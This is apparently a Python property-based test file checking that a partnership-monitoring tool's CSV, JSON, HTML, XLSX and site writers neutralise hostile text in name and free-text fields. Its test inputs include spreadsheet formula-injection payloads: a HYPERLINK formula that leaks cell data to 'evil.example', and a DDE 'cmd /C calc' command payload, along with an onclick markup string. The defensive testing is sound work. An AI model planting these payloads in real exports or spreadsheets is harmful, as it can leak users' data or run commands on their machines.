"""Property: whatever text sits in a name or free-text field, every writer makes it inert and keeps it.

Arbitrary text (formula starters, control characters, right-to-left marks and overrides, markup, very long
strings) is put into every name and free-text field an import accepts (partnership name, description and
theme, city names and countries, action text and owner, an agreed rating's reason), straight into the store,
so that even text an import would refuse is tried. Then every writer runs: scoreboard CSV, JSON and HTML,
comparison CSV, the XLSForm, the published site (partnership page, the PDFs' source HTML; open data CSV,
SDMX-CSV, Open SDG, JSON). Checked: no cell a spreadsheet would run, no raw markup, and the text read back
where the format can hold it. One workspace is reused across examples (copied once from the demo).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from .conftest import sql

PID = "bonn-cape-coast"
STARTERS = ("=", "+", "-", "@", "\t", "\r")
MARKUP = "<b onclick=x>Z9</b>"  # in every text: must come out escaped in HTML, never as a tag
XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

_special = st.sampled_from(list("\x00\x07\x08\x0b\x1b\x7f\x85\x9b\u200e\u200f\u202a\u202e\u2066\u2069\u061c"
                                "\ufeff\u0627\u05d0<>&\"'\\|,;\n\r\t =+-@"))
_piece = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)) | _special, max_size=30)
_starter = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+\u202e"])


@st.composite
def hostile(draw: st.DrawFn) -> str:
    text = draw(_starter) + draw(_piece) + MARKUP + draw(_piece)
    if draw(st.booleans()):
        text += "x" * draw(st.integers(1000, 6000))  # very long: nothing may truncate it silently
    # Outer spaces are not kept by every writer (and an import trims them): the property is about the rest.
    return text.strip(" ")


@pytest.fixture(scope="module")
def ws(demo_ws: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    dst = tmp_path_factory.mktemp("prop") / "ws"
    shutil.copytree(demo_ws, dst)
    return dst


def _fill(ws: Path, t: dict[str, str]) -> None:
    sql(ws, "UPDATE partnerships SET name = ?, description = ?, theme = ? WHERE partnership_id = ?",
        [t["name"], t["description"], t["theme"], PID])
    sql(ws, "UPDATE cities SET name = ?, country = ? WHERE city_id = 'cape-coast'", [t["city"], t["country"]])
    sql(ws, "UPDATE actions SET text = ?, owner = ? WHERE partnership_id = ?", [t["action"], t["owner"], PID])
    sql(ws, "UPDATE agreed SET reason = ? WHERE partnership_id = ?", [t["reason"], PID])


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _check_csv(text: str, where: str, expect: list[str]) -> None:
    cells = _csv_cells(text)
    live = [c[:40] for c in cells if c.startswith(STARTERS)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"
    plain = {c[1:] if c.startswith("'") and c[1:].startswith(STARTERS) else c for c in cells}
    for t in expect:
        assert t in plain, f"{where}: {t[:40]!r} not read back"


def _check_html(text: str, where: str) -> None:
    assert MARKUP not in text, f"{where}: raw markup"
    assert "&lt;b onclick=x&gt;Z9&lt;/b&gt;" in text, f"{where}: the text is missing (escaped)"


FIELDS = ("name", "description", "theme", "city", "country", "action", "owner", "reason")


# No shrinking: one example runs every writer (seconds), and shrinking one took over five minutes. A failure
# prints the whole example, which is readable enough.
@settings(max_examples=4, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                 HealthCheck.data_too_large])
@example({f: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' + MARKUP for f in FIELDS})
@example({f: "\r" + MARKUP + "\u202e\x1b[2J" for f in FIELDS})
@given(st.fixed_dictionaries({f: hostile() for f in FIELDS}))
def test_every_writer_keeps_hostile_text_inert_and_intact(ws: Path, tmp_path_factory: pytest.TempPathFactory,
                                                        t: dict[str, str]) -> None:
    from c2c_monitor.definitions.principles import load_framework
    from c2c_monitor.publish.site import publish
    from c2c_monitor.render import RENDERERS
    from c2c_monitor.render.comparison import render_csv as comparison_csv
    from c2c_monitor.score.assess import build_scoreboard, partnership_info
    from c2c_monitor.score.compare import compare
    from c2c_monitor.store.workspace import open_workspace
    from c2c_monitor.workshop.xlsform import write_xlsform

    _fill(ws, t)
    out = tmp_path_factory.mktemp("out")
    with open_workspace(ws) as w:
        sb = build_scoreboard(w, PID)
        comparison = compare(w, [PID])
        cities = [(c.id, c.name) for c in partnership_info(w.con, PID).cities]
        write_xlsform(load_framework(), out / "form.xlsx", "en", cities)
        publish(w, [PID], out / "site", pdf=False)

    # JSON: everything, exactly.
    doc = json.loads(RENDERERS["json"](sb))
    assert (doc["partnership"]["name"], doc["partnership"]["description"], doc["partnership"]["theme"]) == \
        (t["name"], t["description"], t["theme"])
    assert t["city"] in [c["name"] for c in doc["partnership"]["cities"]]
    assert {(a["text"], a["owner"]) for a in doc["actions"]} == {(t["action"], t["owner"])}
    site_json = json.loads((out / "site" / "data" / "scoreboards.json").read_text(encoding="utf-8"))
    assert site_json[0]["partnership"]["name"] == t["name"]

    # CSV: the scoreboard, the comparison, the open data (partnerships, actions, SDMX, Open SDG).
    _check_csv(RENDERERS["csv"](sb), "assess csv", [t["city"], t["action"], t["owner"]])
    _check_csv(comparison_csv(comparison), "compare csv", [])
    data = out / "site" / "data"
    for f in sorted(data.rglob("*.csv")):
        expect = [t["name"], t["theme"], t["city"]] if f.name == "partnerships.csv" else []
        expect += [t["action"], t["owner"]] if f.name == "actions.csv" else []
        _check_csv(f.read_bytes().decode("utf-8"), str(f.relative_to(out)), expect)  # no newline translation

    # HTML: the scoreboard page and the published pages (the partnership page is also the PDF's source).
    _check_html(RENDERERS["html"](sb), "assess html")
    pages = sorted((out / "site").rglob("*.html"))
    partnership_page = next(p for p in pages if p.parent.name == "partnerships")
    _check_html(partnership_page.read_text(encoding="utf-8"), "partnership page")
    for p in pages:
        assert MARKUP not in p.read_text(encoding="utf-8"), f"{p.name}: raw markup"

    # XLSX: the form's city choice is typed text, never a formula, and reads back as given.
    wb = load_workbook(out / "form.xlsx")
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f" and not (isinstance(c.value, str) and c.value.startswith(STARTERS)), \
                    (sheet.title, c.coordinate, str(c.value)[:40])
    labels = [r[2] for r in wb["choices"].iter_rows(min_row=2) if r[0].value == "city" and r[1].value == "cape-coast"]
    assert labels and labels[0].data_type == "s"
    back = labels[0].value.removeprefix("'") if t["city"].startswith(STARTERS) else labels[0].value
    if not XLSX_ILLEGAL.search(t["city"]):  # XLSX cannot hold C0 controls at all: those become U+FFFD
        assert back == t["city"]
